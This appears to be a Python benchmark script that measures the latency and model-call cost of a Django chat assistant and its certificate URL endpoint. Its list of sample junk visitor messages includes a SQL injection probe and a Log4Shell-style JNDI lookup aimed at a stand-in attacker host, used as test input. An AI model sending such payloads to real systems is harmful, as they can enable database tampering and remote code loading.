"""In-process latencies (Django test client, SQLite) and EVE's cost figures.

    python -m bench.inprocess --provider knowledge_base --out result.json
    python -m bench.inprocess --provider bedrock --out result.json

Run by ``bench.run`` in a fresh process per provider, with the environment
from ``bench.live.app_env`` (production settings, throttling opened up, a
fake S3 bucket so certificate links are real SigV4 presigns computed locally).
With ``bedrock`` it starts the fake Bedrock server (no delay) in this process.
"""

from __future__ import annotations

import argparse
import json
import os
import tempfile
import time
from pathlib import Path

from bench.content import CANNED, REAL_QUESTIONS
from bench.stats import summarise_ms

ITERATIONS = int(os.environ.get("BENCH_ITERATIONS", "300"))
WARMUP = 20
HOST = "localhost"


def _chat(client, message: str) -> dict:
    response = client.post(
        "/api/chat/",
        json.dumps({"message": message}),
        content_type="application/json",
        HTTP_HOST=HOST,
    )
    if response.status_code != 200:
        raise RuntimeError(f"chat answered {response.status_code}: {response.content[:300]!r}")
    return response.json()


def _time_path(client, messages, *, expect_source: str, clear_cache: bool) -> dict:
    """Time one chat path; every timed reply must come from ``expect_source``."""
    from django.core.cache import cache

    samples, wrong = [], 0
    for i in range(WARMUP + ITERATIONS):
        message = messages(i)
        if clear_cache:
            cache.clear()
        started = time.perf_counter()
        body = _chat(client, message)
        elapsed = time.perf_counter() - started
        if i >= WARMUP:
            samples.append(elapsed)
            wrong += body["source"] != expect_source
    return {**summarise_ms(samples), "source": expect_source, "wrong_source": wrong}


def _time_certificate_urls(client, slug: str) -> dict:
    from certificates.models import Certificate
    from certificates.storage import certificate_file_url

    certificate = Certificate.objects.get(slug=slug)
    api, presign = [], []
    for i in range(WARMUP + ITERATIONS):
        started = time.perf_counter()
        response = client.post(
            f"/api/certificates/{slug}/url/", {}, content_type="application/json", HTTP_HOST=HOST
        )
        api_elapsed = time.perf_counter() - started
        assert response.status_code == 200, response.content[:300]
        started = time.perf_counter()
        url = certificate_file_url(name=certificate.file.name, slug=slug, expires_in=300)
        presign_elapsed = time.perf_counter() - started
        assert "X-Amz-Signature=" in url, url
        if i >= WARMUP:
            api.append(api_elapsed)
            presign.append(presign_elapsed)
    return {"certificate_url_api": summarise_ms(api), "certificate_presign": summarise_ms(presign)}


def _setup() -> object:
    import django
    from django.core.management import call_command

    django.setup()
    call_command("migrate", verbosity=0, interactive=False)
    from django.test import Client

    from bench.content import load_content

    info = load_content(records=int(os.environ.get("BENCH_RECORDS", "500")), with_files=False)
    return Client(), info


def bench_knowledge_base() -> dict:
    client, info = _setup()
    from django.core.cache import cache

    cache.clear()
    cached_question = REAL_QUESTIONS[0]
    _chat(client, cached_question)
    paths = {
        "guard": _time_path(
            client,
            lambda i: ["hi", "hello!!", "asdfgh", "ok"][i % 4],
            expect_source="guard",
            clear_cache=False,
        ),
        "canned": _time_path(
            client, lambda i: CANNED[i % len(CANNED)][0], expect_source="canned", clear_cache=False
        ),
        "cache": _time_path(
            client, lambda i: cached_question, expect_source="cache", clear_cache=False
        ),
        "knowledge_base": _time_path(
            client,
            lambda i: REAL_QUESTIONS[i % len(REAL_QUESTIONS)],
            expect_source="knowledge_base",
            clear_cache=True,
        ),
    }
    return {
        "records": info.records,
        "paths": paths,
        **_time_certificate_urls(client, info.certificate_slug),
    }


def visitor_mix() -> list[str]:
    """A realistic day of visitor messages: junk, chips, repeats and real questions."""
    junk = [
        "hi",
        "hello",
        "hey!!",
        "test",
        "asdf",
        "ok",
        "lol",
        "???",
        "hola",
        "thanks",
        "bonjour",
        "testing 123",
        "jkjkjk",
        "👋",
        "are you real",
        # what reaches a public chat box besides greetings (issue 12)
        "cheap SEO backlinks, visit my site www.seo-best.example",
        "' OR 1=1 --",
        "${jndi:ldap://evil.example/a}",
        "how's your day going",
        "Lorem ipsum dolor sit amet, consectetur adipiscing elit",
        "is this thing on",
    ]
    chips = [q for q, _ in CANNED] + [q.lower().rstrip("?") for q, _ in CANNED]
    mix = []
    for i in range(200):
        kind = i % 10
        if kind in (0, 1, 2):
            mix.append(junk[i % len(junk)])
        elif kind in (3, 4):
            mix.append(chips[i % len(chips)])
        elif kind in (5, 6):
            mix.append(REAL_QUESTIONS[i % 8])  # the popular questions, asked again and again
        else:
            mix.append(REAL_QUESTIONS[i % len(REAL_QUESTIONS)])
    return mix


def bench_bedrock() -> dict:
    from harness.bedrock import FakeBedrock

    fake = FakeBedrock(mode="ok").start()
    os.environ.update({"EVE_PROVIDER": "bedrock", "EVE_BEDROCK_ENDPOINT_URL": fake.url})
    try:
        client, _info = _setup()
        from django.core.cache import cache

        fake.clear()
        model = _time_path(
            client,
            lambda i: f"{REAL_QUESTIONS[i % len(REAL_QUESTIONS)]}",
            expect_source="model",
            clear_cache=True,
        )
        calls = list(fake.requests)
        tokens = [estimated_input_tokens(call.body or {}) for call in calls[-ITERATIONS:]]
        per_call = _usage_per_model_call()
        cache.clear()
        fake.clear()
        sources = [_chat(client, message)["source"] for message in visitor_mix()]
        model_calls = len(fake.requests)
    finally:
        fake.stop()
    return {
        "paths": {"model": model},
        "input_tokens_per_model_call": {
            "mean": round(sum(tokens) / len(tokens), 1) if tokens else None,
            "max": max(tokens) if tokens else None,
            "calls": len(tokens),
            "estimate": "characters of system prompt + messages / 4",
        },
        "usage_per_model_call": per_call,
        "visitor_mix": {
            "messages": len(sources),
            "model_calls": model_calls,
            "answered_without_model_pct": round(100 * (1 - model_calls / len(sources)), 1),
            "by_source": {s: sources.count(s) for s in sorted(set(sources))},
        },
    }


def _usage_per_model_call() -> dict:
    """Mean tokens (as the fake reports them: characters / 4) and dollars per model call."""
    from django.conf import settings
    from django.db.models import Avg, Count

    from eve.models import ChatLog

    row = ChatLog.objects.filter(source="model").aggregate(
        calls=Count("id"),
        input=Avg("input_tokens"),
        output=Avg("output_tokens"),
        cost=Avg("cost_usd"),
    )
    return {
        "calls": row["calls"],
        "input_tokens": round(row["input"] or 0, 1),
        "output_tokens": round(row["output"] or 0, 1),
        "cost_usd": float(round(row["cost"] or 0, 6)),
        "usd_per_1000_calls": float(round((row["cost"] or 0) * 1000, 2)),
        "prices_per_mtok": [settings.EVE_PRICE_INPUT_PER_MTOK, settings.EVE_PRICE_OUTPUT_PER_MTOK],
        "model": settings.EVE_MODEL_ID,
    }


def estimated_input_tokens(converse_request: dict) -> int:
    """chars/4 over every text block of a Converse request (system prompt and messages)."""
    chars = 0
    for block in converse_request.get("system", []):
        chars += len(block.get("text", ""))
    for message in converse_request.get("messages", []):
        for block in message.get("content", []):
            chars += len(block.get("text", ""))
    return round(chars / 4)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--provider", choices=["knowledge_base", "bedrock"], required=True)
    parser.add_argument("--out", type=Path, required=True)
    args = parser.parse_args()
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "cloudforgex.settings")
    if "DATABASE_URL" not in os.environ:
        folder = Path(tempfile.mkdtemp(prefix="cfx-bench-"))
        os.environ["DATABASE_URL"] = f"sqlite:///{folder / 'bench.sqlite3'}"
    result = bench_knowledge_base() if args.provider == "knowledge_base" else bench_bedrock()
    args.out.write_text(json.dumps(result, indent=2))


if __name__ == "__main__":
    main()
